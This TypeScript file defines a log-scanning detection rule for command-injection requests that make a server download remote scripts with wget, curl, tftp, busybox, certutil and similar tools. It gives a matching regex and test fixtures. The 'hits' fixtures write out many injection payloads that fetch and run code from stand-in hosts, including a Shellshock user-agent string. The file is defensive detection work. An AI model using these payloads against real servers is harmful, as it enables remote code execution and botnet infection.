import { each } from '../example.ts'
import { defineRule } from '../rule.ts'

export default defineRule({
  id: 'cmdi/download-tool',
  title: 'Download tool called with a URL',
  why: 'Makes the server fetch a file, most often the first script of a botnet or miner, by wget, curl, tftp or busybox.',
  ja: {
    title: 'ダウンロードコマンドの実行（wget・curl など）',
    why: 'wget・curl・tftp・busybox などでサーバーに外部ファイルを取得させようとしています。多くはボットネットや採掘マルウェアの最初のスクリプトです。',
    falsePositives: '技術系サイトでコマンドライン全体を検索したものです。',
  },
  severity: 'critical',
  stage: 'download',
  attack: ['T1105', 'T1059.004'],
  cwe: [78],
  refs: [
    'https://attack.mitre.org/techniques/T1105/',
    'https://owasp.org/www-community/attacks/Command_Injection',
  ],
  falsePositives: 'A search on a technical site for a whole command line.',

  where: ['path', 'query', 'referrer', 'agent', 'user'],
  needs: [
    [
      'wget ',
      'wget+',
      'wget,',
      'wget.exe',
      'curl ',
      'curl+',
      'curl,',
      'curl.exe',
      'tftp ',
      'ftpget ',
      'lwp-download',
      'lynx ',
      'fetch ',
      'certutil',
      'bitsadmin',
      'aria2c',
    ],
  ],
  match:
    /(?:^|[\s&(/;=?`|"'{]|\\n)(?<!(?:^|[&?])(?:q|query|s|search|term|keywords?|text)=)(?:wget|curl|lwp-download|lynx|fetch|aria2c|certutil|bitsadmin)(?:\.exe)?[\s+,](?![^\n;|]{0,20}\+https?:)[^\n;|]{0,120}?(?:(?:https?|ftp):\/|\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}|[\w-]{1,40}\.[\w.-]{1,60}\/)|(?:^|[\s&;=`|])(?:tftp|ftpget)\s[^\n;|]{0,60}(?:\d{1,3}\.){3}\d{1,3}/i,

  hits: [
    'GET /search?q=;wget+http://evil.example/a HTTP/1.1',
    'GET /a.php?myq=wget+http://evil.example/a HTTP/1.1',
    'GET /cgi-bin/test.cgi?x=;wget%20http://203.0.113.9/a.sh HTTP/1.1',
    'GET /shell?cd+/tmp;curl+-O+http://malware.example/bins/x86;sh+x86 HTTP/1.1',
    'GET /set.cgi?ntp=`tftp%20-g%20-r%20mips%20203.0.113.9` HTTP/1.1',
    'GET /run?cmd=busybox+wget+203.0.113.9/m+-O+/tmp/m HTTP/1.1',
    'GET /a?c=$(curl${IFS}-s${IFS}evil.example/p|sh) HTTP/1.1',
    { request: 'GET / HTTP/1.1', agent: '() { :;}; /usr/bin/wget http://203.0.113.9/bot.pl' },
    'GET /cgi-bin/test.cgi?x=%5Cnwget%20http://203.0.113.9/a.sh HTTP/1.1',
    ...each(
      'GET /cgi-bin/test.cgi?x=;{}%20http://203.0.113.9/a.sh HTTP/1.1',
      'lwp-download lynx fetch aria2c certutil bitsadmin',
    ),
    'GET /run?cmd=busybox+wget+http://m+-O+/tmp/m HTTP/1.1',
    'GET /run?cmd=busybox+wget+ftp://m+-O+/tmp/m HTTP/1.1',
    'GET /set.cgi?ntp=`ftpget%20-g%20-r%20mips%20203.0.113.9` HTTP/1.1',
    'GET /;wget%20http:/203.0.113.9/a.sh HTTP/1.1',
    {
      request: 'GET / HTTP/1.1',
      referrer: 'https://www.example.com/cgi-bin/test.cgi?x=;wget%20http://203.0.113.9/a.sh',
    },
    { request: 'GET / HTTP/1.1', user: ';wget http:/203.0.113.9/a.sh' },
    { request: 'GET / HTTP/1.1', user: 'wget http:/203.0.113.9/a.sh' },
    ...each(
      'GET /cgi-bin/test.cgi?x=;{}http://203.0.113.9/a.sh HTTP/1.1',
      'wget%2B wget, curl%2B curl,',
    ),
    'GET /cgi-bin/test.cgi?x=;wget.exe%20http://203.0.113.9/a.sh HTTP/1.1',
    'GET /cgi-bin/test.cgi?x=;curl.exe%20http://203.0.113.9/a.sh HTTP/1.1',
  ],
  misses: [
    'GET /search?q=wget+https://www.example.com/file.zip HTTP/1.1',
    'GET /?a=b&query=curl+-X+POST+http://www.example.com/a HTTP/1.1',
    { request: 'GET / HTTP/1.1', agent: 'curl/7.88.1' },
    { request: 'GET /feed HTTP/1.1', agent: 'Wget/1.21.3 (linux-gnu)' },
    { request: 'GET /feed HTTP/1.1', agent: 'link fetch (+http://bot.example/about)' },
    'GET /docs/wget-manual?from=http://docs.example/ HTTP/1.1', // no call, only a name
    'GET /docs?q=how+to+use+curl HTTP/1.1',
    {
      message:
        'upstream timed out, request: "GET /cgi-bin/test.cgi?x=;wget%20http://203.0.113.9/a.sh HTTP/1.1"',
    },
    { request: 'GET / HTTP/1.1', user: 'mywget http:/203.0.113.9/a.sh' },
  ],
})
